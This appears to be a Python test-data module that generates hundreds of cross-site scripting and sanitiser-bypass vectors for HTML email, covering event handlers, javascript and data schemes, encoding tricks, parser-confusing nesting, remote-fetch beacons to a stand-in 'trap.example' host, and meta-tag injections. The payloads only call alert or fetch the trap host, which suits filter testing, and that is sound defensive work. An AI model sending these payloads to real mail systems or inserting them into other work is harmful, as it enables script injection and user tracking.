# ruff: noqa: E501 - a vector stands in one line, as it would in a mail
"""Mail HTML that tries to run, to fetch or to lead astray; made here, from what HTML allows.

Families as in the published filter bypasses of helpdesks and sanitisers: handlers, schemes,
encodings, foreign content, forms, frames, redirects, styles, and parsers confused by nesting.
Each one calls `alert` or fetches from TRAP, so that a browser shows whether it worked.
"""

from itertools import product

TRAP = "http://trap.example"
FIRE = "alert(1)"
CALL = f"fetch(`{TRAP}/run`)"
# Ends whatever the vector before has left open, so that each one gets its turn.
END = "--></title></style></textarea></noscript></template></svg></math></select></script></form>"

HANDLED = (
    ("img", "src=x", "onerror"),
    ("img", f"src={TRAP}/i.png", "onload"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("marquee", "", "onstart"),
    ("iframe", "", "onload"),
    ("object", "data=x", "onerror"),
    ("embed", "src=x", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x", "onerror"),
    ("style", "", "onload"),
    ("div", "style=animation-name:x tabindex=1 autofocus", "onfocus"),
    ("a", "href=# autofocus", "onfocusin"),
    ("p", "contenteditable autofocus", "onfocus"),
    ("table", "background=x", "onmouseover"),
)
SPELLINGS = (
    lambda tag, more, on: f"<{tag} {more} {on}={FIRE}>",
    lambda tag, more, on: f"<{tag.upper()} {more} {on.upper()}='{FIRE}'>",
    lambda tag, more, on: f"<{tag}/{more.replace(' ', '/')}/{on}\n=\n{FIRE}>",
    lambda tag, more, on: f"<{tag} {more} x='>' {on}=&#97;&#108;&#101;&#114;&#116;(1)>",
)
SCHEMES = (
    f"javascript:{FIRE}",
    f"JaVaScRiPt:{FIRE}",
    f" \x01javascript:{FIRE}",
    f"java\tscript:{FIRE}",
    f"java&#10;script:{FIRE}",
    f"&#106;avascript&colon;{FIRE}",
    f"vbscript:{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"view-source:{TRAP}/v",
)
CARRIERS = (
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<img src='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<form action='{}'><input type=submit autofocus></form>",
    "<svg><animate xlink:href='#a' attributeName=href values='{}'/><a id=a><text>x</text></a></svg>",
    "<math href='{}'><mtext>x</mtext></math>",
    "<base href='{}'>",
)
FETCHING = (
    f"<img src={TRAP}/1.png>",
    f"<img srcset='{TRAP}/2.png 1x'>",
    f"<picture><source srcset={TRAP}/3.png><img src=cid:none></picture>",
    f"<table background={TRAP}/4.png><tr><td background={TRAP}/5.png>x</table>",
    f"<body background={TRAP}/6.png>",
    f"<div style='background:url({TRAP}/7.png)'>x</div>",
    f'<div style="background:\\75\\72\\6c({TRAP}/8.png)">x</div>',
    f"<style>@import url({TRAP}/9.css);</style>",
    f"<style>body{{background:url({TRAP}/10.png)}}</style>",
    f"<style>@font-face{{font-family:f;src:url({TRAP}/11.woff)}}body{{font-family:f}}</style>",
    f"<link rel=stylesheet href={TRAP}/12.css>",
    f"<link rel=preload as=image href={TRAP}/13.png>",
    f"<link rel=dns-prefetch href={TRAP}>",
    f"<link rel=icon href={TRAP}/14.png>",
    f"<video poster={TRAP}/15.png src={TRAP}/15.mp4 autoplay></video>",
    f"<audio src={TRAP}/16.mp3 autoplay></audio>",
    f"<iframe src={TRAP}/17.html></iframe>",
    f"<object data={TRAP}/18.swf></object>",
    f"<embed src={TRAP}/19.swf>",
    f"<svg><image href={TRAP}/20.png /></svg>",
    f"<svg><use href='{TRAP}/21.svg#x'/></svg>",
    f"<svg><style>*{{background:url({TRAP}/22.png)}}</style><text>x</text></svg>",
    f"<input type=image src={TRAP}/23.png>",
    f"<script src={TRAP}/24.js></script>",
    f"<meta http-equiv=refresh content='0;url={TRAP}/25'>",
    f"<base href={TRAP}/><img src=26.png>",
    f"<frameset><frame src={TRAP}/27></frameset>",
    "<img src=//trap.example/28.png>",
    f"<img lowsrc={TRAP}/29.png dynsrc={TRAP}/30.png>",
    f"<template shadowrootmode=open><img src={TRAP}/31.png></template>",
    f"<details open><summary style='list-style:url({TRAP}/32.png)'>x</summary></details>",
    f"<a ping={TRAP}/33 href=#>x</a><bgsound src={TRAP}/34.mp3>",
)
CONFUSED = (
    f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'></noscript>",
    f"<textarea><p title='</textarea><img src=x onerror={FIRE}>'></textarea>",
    f"<title><p title='</title><img src=x onerror={FIRE}>'></title>",
    f"<style><p title='</style><img src=x onerror={FIRE}>'></style>",
    f"<xmp><p title='</xmp><img src=x onerror={FIRE}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={FIRE}>'></noembed>",
    f"<noframes><p title='</noframes><img src=x onerror={FIRE}>'></noframes>",
    f"<iframe><p title='</iframe><img src=x onerror={FIRE}>'></iframe>",
    f"<svg></p><style><a id='</style><img src=x onerror={FIRE}>'>",
    f"<svg><style><img src=x onerror={FIRE}></style>",
    f"<svg><title><img src=x onerror={FIRE}></title></svg>",
    f"<svg><desc><img src=x onerror={FIRE}></desc></svg>",
    f"<svg><foreignObject><img src=x onerror={FIRE}></foreignObject></svg>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><script href='data:text/javascript,{FIRE}'/></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{FIRE} /></a></svg>",
    f"<svg><set attributeName=onload to={FIRE} /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={FIRE}></style></mglyph></table></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={FIRE}></annotation-xml></math>",
    f"<math><mi><style><img src=x onerror={FIRE}></style></mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={FIRE}>",
    f"<select><option><style></select><img src=x onerror={FIRE}></style>",
    f"<table><td><svg><style></table><img src=x onerror={FIRE}>",
    f"<!--><img src=x onerror={FIRE}>-->",
    f"<!-- --!><img src=x onerror={FIRE}> -->",
    f"<![CDATA[><img src=x onerror={FIRE}>]]>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={FIRE}>'>]>&y;",
    f"<?xml version='1.0'?><img src=x onerror={FIRE}>",
    f"<?php ><img src=x onerror={FIRE}>",
    f"<a<img src=x onerror={FIRE}>",
    f"<<img src=x onerror={FIRE}>>",
    f"<img src='x' / onerror={FIRE}>",
    f"<img \x00src=x onerr\x00or={FIRE}>",
    f"<img src=x onerror\x0b={FIRE}>",
    f"<img title='`><img src=x onerror={FIRE}>`'>",
    f"<img alt='\"><img src=x onerror={FIRE}>'>",
    f'<p title="<!--"><img src=x onerror={FIRE}>-->',
    f"<img src='cid:x\" onerror=\"{FIRE}'>",
    f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
    f"<script>{FIRE}</script >",
    f"<SCRIPT/x>{CALL}</SCRIPT\t\n>",
    f"<script type=module>{CALL}</script>",
    f"<script>//<!--<script>\n{FIRE}//--></script>",
    f"<style>*{{x:expression({FIRE})}}</style>",
    f"<div style='behavior:url(#default#time2)' onbegin={FIRE}>x</div>",
    f"<iframe srcdoc='<script>{FIRE}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror={FIRE}&gt;'></iframe>",
    f"<object type=text/html data='data:text/html,<script>{FIRE}</script>'></object>",
    f"<template><img src=x onerror={FIRE}></template>",
    f"<template shadowrootmode=open><img src=x onerror={FIRE}></template>",
    f"<portal src={TRAP}/p></portal><x-y onclick={FIRE} autofocus tabindex=1 onfocus={FIRE}>x</x-y>",
    f"<button popovertarget=x onbeforetoggle={FIRE}>x</button><p popover id=x ontoggle={FIRE}>x</p>",
    f"<input type=hidden oncontentvisibilityautostatechange={FIRE} style=content-visibility:auto>",
    f"<p style=content-visibility:auto oncontentvisibilityautostatechange={FIRE}>x</p>",
    f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart={FIRE}>x</p>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "<meta http-equiv=Set-Cookie content='sessionid=stolen'>",
    f"<html manifest={TRAP}/m><body onload={FIRE}>",
    "<a id=location href=x name=cookie>x</a><form id=document name=body><input name=innerHTML></form>",
    f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-",
)


def vectors() -> list[str]:
    """All of them, each on its own."""
    handled = [spell(*one) for one, spell in product(HANDLED, SPELLINGS)]
    led = [carrier.format(scheme) for carrier, scheme in product(CARRIERS, SCHEMES)]
    return [*handled, *led, *FETCHING, *CONFUSED]


def in_mails(size: int) -> list[str]:
    """The vectors in a few mails, with marks between them; parsers that stumble get fewer."""
    simple = [one for one in vectors() if one not in CONFUSED]
    groups = [simple[at : at + size] for at in range(0, len(simple), size)]
    groups += [list(CONFUSED[at : at + 6]) for at in range(0, len(CONFUSED), 6)]
    return [END.join(["<p>Guten Tag,</p>", *group, "<p>Gruß</p>"]) for group in groups]
